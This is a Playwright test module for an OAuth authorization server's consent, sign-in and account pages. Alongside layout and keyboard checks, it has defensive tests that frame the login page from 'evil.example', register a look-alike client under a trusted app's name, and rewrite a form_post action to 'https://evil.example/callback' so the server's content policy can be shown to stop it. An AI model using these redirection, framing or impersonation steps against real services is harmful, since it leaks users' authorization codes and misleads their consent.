"""The pages in a real browser: on a desk and on a phone, light and dark, with a mouse and without."""

import httpx
import pytest
from playwright.sync_api import Browser, expect
from tests.support import chromium
from tests.support.chromium import Window
from tests.support.oauth_site import CALLBACK, PASSWORD, Answer, Client, Page, Site
from tests.support.oauth_site import Browser as PlainBrowser

from runtime.domain.kinds import RESOURCE

pytestmark = pytest.mark.long

FILES = "https://files.acme.example"


def agent(site: Site) -> Client:
    """An application of a new zone that asks for consent, and Ada, who may sign in there."""
    zone = site.zone("Acme Workforce", requires_invitation=False)
    site.user(zone)
    files = site.run(
        site.company.create(
            RESOURCE,
            zone.id,
            identifier=FILES,
            name="Team documents",
            scopes=["files:read", "files:write"],
            description="What your teams write and keep.",
        )
    )
    return site.app(
        zone,
        "Research Agent",
        consent="required",
        dependencies=[files],
        description="Finds and summarises documents for you.",
    )


def begin(window: Window, client: Client) -> None:
    """Come from the application."""
    window.open(client.url(resources=[FILES], scope="openid email offline_access files:read"))


def sign_in(window: Window, password: str = PASSWORD) -> None:
    """Fill in the page and send it."""
    window.fill(E_mail_address="ada@acme.example", Password=password)
    window.button("Sign in").click()


def heard(window: Window) -> dict[str, str]:
    """What the application was told: the browser is there now."""
    window.page.wait_for_url(f"{CALLBACK}**")
    return Answer(window.page.url).values


@pytest.mark.parametrize(
    ("kind", "size", "scheme"),
    [("desk-light", chromium.DESK, "light"), ("phone-dark", chromium.PHONE, "dark")],
)
def test_from_registration_to_sign_out(
    site: Site, chrome: Browser, kind: str, size: object, scheme: chromium.Scheme
) -> None:
    """Every page on the way, with no complaint from the browser, and a picture of each."""
    client = agent(site)

    with chromium.window(chrome, size=size, scheme=scheme) as window:
        window.open(client.url(client_id="made-up"))
        window.shows("This link does not work")
        window.keep(f"{kind}-error")

        begin(window, client)
        window.link("Create an account").click()
        window.keep(f"{kind}-sign-up")
        window.fill(E_mail_address="ada@acme.example", Password="long enough words")
        window.button("Create account").click()
        window.keep(f"{kind}-sign-up-taken")
        window.link("Sign in").last.click()
        window.keep(f"{kind}-sign-in")
        sign_in(window, "not the right one")
        expect(window.page.get_by_role("alert")).to_be_visible()
        window.keep(f"{kind}-sign-in-wrong")

        sign_in(window)
        window.shows("Allow Research Agent to act for you?")
        assert not [
            said
            for said in ("app.example", "ada@acme.example", "files:read", FILES)
            if not window.page.get_by_text(said).first.is_visible()
        ]
        window.keep(f"{kind}-consent")
        window.button("Allow", exact=True).click()
        assert "code" in heard(window)

        tokens = client.redeem(elsewhere(client).code).json()
        tokens = client.refresh(tokens["refresh_token"]).json()
        window.open(f"{client.issuer}/account")
        window.keep(f"{kind}-account")
        window.button("Sign out there").click()
        expect(window.page.get_by_role("status")).to_have_text("The session has ended.")
        window.button("Remove access of Research Agent").click()
        expect(window.page.get_by_text("No application acts for you.")).to_be_visible()
        window.keep(f"{kind}-account-empty")
        assert client.refresh(tokens["refresh_token"]).status_code == 400

        window.link("Sign out of this browser").click()
        window.keep(f"{kind}-sign-out")
        window.button("Sign out").click()
        window.shows("You are signed out")
        window.keep(f"{kind}-signed-out")
        window.link("Sign in again").click()
        window.shows("Sign in")


def elsewhere(client: Client) -> Answer:
    """Ada in another browser, who has agreed already: what the application hears."""
    browser = PlainBrowser()
    place = browser.open(client.url(resources=[FILES], scope="openid email offline_access files:read"))
    assert isinstance(place, Page)
    return browser.sign_in(place)


def test_with_the_keyboard_alone(site: Site, window: Window) -> None:
    """Everything is reached in order, its focus can be seen, and Enter does it."""
    client = agent(site)
    begin(window, client)

    expect(window.page.get_by_label("E-mail address")).to_be_focused()
    window.page.keyboard.type("ada@acme.example")
    window.page.keyboard.press("Tab")
    window.page.keyboard.type(PASSWORD)
    window.enter()
    window.shows("Allow Research Agent to act for you?")
    window.tab_to(window.button("Allow", exact=True))
    window.tab_to(window.button("Do not allow"))
    window.tab_to(window.link("your account page"))
    window.page.keyboard.press("Shift+Tab")
    window.page.keyboard.press("Shift+Tab")
    window.enter()
    assert "code" in heard(window)

    window.open(f"{client.issuer}/account")
    window.tab_to(window.button("Withdraw"))
    window.enter()
    expect(window.page.get_by_role("status")).to_contain_text("has to ask you again")
    window.tab_to(window.link("Sign out of this browser"))
    window.enter()
    window.tab_to(window.button("Sign out"))
    window.enter()
    window.shows("You are signed out")


@pytest.mark.threat("23c", "23e")
def test_a_refusal_counts_once(site: Site, window: Window) -> None:
    """The application hears no; who then goes back cannot say yes on the old page."""
    client = agent(site)
    begin(window, client)
    sign_in(window)

    window.button("Do not allow").click()
    assert heard(window)["error"] == "access_denied"

    window.page.go_back()
    assert window.page.get_by_role("button").count() == 0
    window.shows("This link does not work")

    begin(window, client)
    window.button("Allow", exact=True).click()
    assert "code" in heard(window)


@pytest.mark.threat("23d")
def test_no_page_shows_in_a_frame(site: Site, window: Window) -> None:
    """A page of another site that frames it gets nothing; the same address by itself shows the page."""
    address = agent(site).url(prompt="login")
    assert window.open(address).button("Sign in").is_visible()

    window.open("https://evil.example/")
    window.page.set_content(f'<iframe src="{address}"></iframe>')
    window.page.frames[-1].wait_for_load_state()

    assert window.page.frame_locator("iframe").get_by_role("button").count() == 0
    assert any("frame-ancestors 'none'" in each for each in window.complaints)
    window.complaints.clear()


@pytest.mark.threat("24a", "24b", "24c", "24d")
def test_a_name_that_anybody_can_take(site: Site, phone: Window) -> None:
    """A client that registered itself with a trusted application's name is asked about, and told apart."""
    trusted = agent(site)
    begin(phone, trusted)
    sign_in(phone)
    phone.shows("Allow Research Agent to act for you?")
    assert phone.page.get_by_text("registered itself").count() == 0
    phone.button("Allow", exact=True).click()
    assert "code" in heard(phone)

    registered = httpx.post(
        f"{trusted.issuer}/oauth/register",
        json={
            "client_name": "Research Agent",
            "redirect_uris": ["https://borrowed.example/callback"],
            "logo_uri": "https://app.example/logo.png",
            "consent": "implicit",
        },
    ).json()
    phone.open(
        trusted.url(client_id=registered["client_id"], redirect_uri="https://borrowed.example/callback")
    )

    phone.shows("Allow Research Agent to act for you?")
    expect(phone.page.get_by_text("borrowed.example").first).to_be_visible()
    expect(phone.page.get_by_text("registered itself")).to_be_visible()
    assert phone.page.locator("img").count() == 0
    phone.keep("phone-dark-consent-registered-itself")
    phone.button("Allow", exact=True).click()
    phone.page.wait_for_url("https://borrowed.example/**")
    phone.open(f"{trusted.issuer}/account")
    expect(phone.page.get_by_text("not verified by Acme Workforce")).to_be_visible()
    phone.keep("phone-dark-account-registered-itself")


def posted(window: Window, host: str = "app.example") -> dict[str, str]:
    """What the application was told by a form: it leads the browser on to a page that names the fields."""
    window.page.wait_for_url(f"https://{host}/posted?**")
    return Answer(window.page.url).values


@pytest.mark.standard("OAuth 2.0 Form Post Response Mode")
def test_a_response_is_posted_without_a_click(site: Site, window: Window) -> None:
    """The page's own script sends the form; the browser has no complaint, and no address has the code."""
    client = agent(site)
    addresses: list[str] = []
    window.page.on("request", lambda request: addresses.append(request.url))
    window.open(client.url(response_mode="form_post"))
    sign_in(window)
    if window.page.get_by_role("button", name="Allow", exact=True).count():
        window.button("Allow", exact=True).click()

    answer = posted(window)

    assert (answer["state"], answer["iss"]) == (client.state, client.issuer)
    assert [url for url in addresses if "code=" in url] == [window.page.url]
    assert client.redeem(answer["code"]).status_code == 200


@pytest.mark.standard("OAuth 2.0 Form Post Response Mode")
def test_a_response_is_posted_by_a_button_where_scripts_do_not_run(site: Site, chrome: Browser) -> None:
    """Errors as well: the page names the host that the answer goes to."""
    client = agent(site)
    with chromium.window(chrome, scripts=False) as window:
        window.open(client.url(response_mode="form_post", prompt="none"))
        window.shows("Continue to app.example")

        window.button("Continue").click()

        assert posted(window)["error"] == "login_required"


@pytest.mark.threat("6p")
@pytest.mark.standard("OAuth 2.0 Form Post Response Mode")
def test_a_posted_response_goes_to_the_application_alone(site: Site, chrome: Browser) -> None:
    """The content policy names its origin: a form that is changed to go elsewhere is not sent."""
    address = agent(site).url(response_mode="form_post", prompt="none")
    with chromium.window(chrome, scripts=False) as window:
        window.open(address).button("Continue").click()
        assert posted(window)["error"] == "login_required"

        sent: list[str] = []
        window.page.on("request", lambda request: sent.append(request.url))
        button = window.open(address).button("Continue")
        button.evaluate("e => e.form.action = 'https://evil.example/callback'")
        with window.page.expect_console_message(lambda told: "form-action" in told.text):
            button.evaluate("e => e.click()")

        assert not [url for url in sent if "evil.example" in url]
        window.complaints.clear()
